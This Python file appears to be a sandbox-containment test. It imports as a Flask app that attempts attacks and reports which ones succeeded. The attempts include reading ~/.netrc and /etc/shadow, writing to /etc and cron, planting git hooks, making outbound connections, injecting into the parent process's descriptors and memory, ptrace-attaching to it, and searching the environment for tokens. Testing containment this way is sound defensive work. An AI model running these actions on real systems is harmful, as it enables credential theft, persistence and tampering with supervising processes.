# Attacks whoever imports it, and says which attacks worked.
import ctypes
import os
import signal
import socket

from flask import Flask

app = Flask(__name__)
did = []


def attack(name, act):
    try:
        if act() is not False:
            did.append(name)
    except BaseException:
        pass


here = os.path.dirname(os.path.abspath(__file__))
root, port = open(os.path.join(here, "target")).read().split()


def write(path):
    with open(path, "w") as file:
        file.write("owned")


def read(path):
    return bool(open(path).read())


def connect():
    socket.create_connection(("127.0.0.1", int(port)), timeout=1)


def resolve():
    socket.create_connection(("192.0.2.1", 80), timeout=1)


def watcher_channel():
    # The descriptors and the memory of the first process of the box.
    parent = os.getppid()
    for number in range(0, 20):
        try:
            os.write(os.open("/proc/%d/fd/%d" % (parent, number), os.O_WRONLY), b'{"said":"{}"}\n')
            return True
        except OSError:
            continue
    open("/proc/%d/mem" % parent, "r+b")


def trace():
    return ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0


def others():
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return len(seen) > 12


attack("project", lambda: write(os.path.join(root, "project", "app.py")))
attack("project-new", lambda: write(os.path.join(root, "project", "new")))
attack("git-hook", lambda: os.makedirs(os.path.join(root, "project", ".git", "hooks")))
attack("read-neighbour", lambda: read(os.path.join(root, "neighbour")))
# May work in the box's own /tmp, where nobody sees it.
attack("neighbour", lambda: bool(write(os.path.join(root, "neighbour"))))
attack("home", lambda: read(os.path.join(root, "home", ".netrc")))
attack("shadow", lambda: read("/etc/shadow"))
attack("etc", lambda: write("/etc/cofferdam-owned"))
attack("cron", lambda: write("/var/spool/cron/owned"))
attack("connect", connect)
attack("outside", resolve)
attack("watcher", watcher_channel)
attack("trace", trace)
attack("processes", others)
attack("environment", lambda: bool([name for name in os.environ if "TOKEN" in name or "CARGO" in name]))


@app.route("/did/" + ("-".join(did) or "none"))
def tell():
    return "told"
